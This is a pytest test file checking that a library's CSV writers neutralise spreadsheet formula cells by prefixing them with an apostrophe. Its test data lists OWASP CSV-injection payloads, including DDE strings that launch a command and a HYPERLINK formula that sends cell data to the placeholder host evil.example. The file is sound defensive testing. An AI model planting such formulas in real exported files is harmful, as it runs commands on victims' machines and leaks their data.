"""The core's formula-safe CSV writers: a cell a spreadsheet would run is written as text."""
import csv
import io

import pytest

from civicapps import csv_dict_writer, csv_writer
from civicapps.csv_export import FORMULA_STARTS, formula_safe

#: OWASP "CSV Injection": each would be run (or start a formula) when the file is opened.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click to re-confirm")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+44 1624 123456",
]


def written(write) -> list[list[str]]:
    out = io.StringIO(newline="")
    write(out)
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


@pytest.mark.parametrize("cell", FORMULAS, ids=repr)
def test_formula_cells_are_written_as_text(cell):
    rows = written(lambda out: csv_writer(out).writerow(["title", cell, 3]))
    assert rows == [["title", "'" + cell, "3"]]
    rows = written(lambda out: csv_dict_writer(out, ["a", "b"]).writerow({"a": cell, "b": "x"}))
    assert rows == [["'" + cell, "x"]]


def test_numbers_and_plain_text_are_written_as_they_are():
    cells = [-4.48, "-4.48", "+1", "-1e5", 54, None, "Pothole on Athol St", "a=b", " =1"]
    assert written(lambda out: csv_writer(out).writerows([cells])) == [
        ["-4.48", "-4.48", "+1", "-1e5", "54", "", "Pothole on Athol St", "a=b", " =1"]
    ]


def test_the_dict_writer_keeps_csv_dictwriter_arguments():
    out = io.StringIO()
    writer = csv_dict_writer(out, ["a", "b"], extrasaction="ignore", quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": "=1", "b": 2, "c": "ignored"})
    assert out.getvalue() == '"a","b"\n"\'=1","2"\n'


def formula_cells(text: str) -> list[str]:
    """The cells of a CSV document a spreadsheet would run as formulas (for every export's test)."""
    rows = csv.reader(io.StringIO(text, newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and formula_safe(cell) != cell]


def cells(text: str) -> set[str]:
    return {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
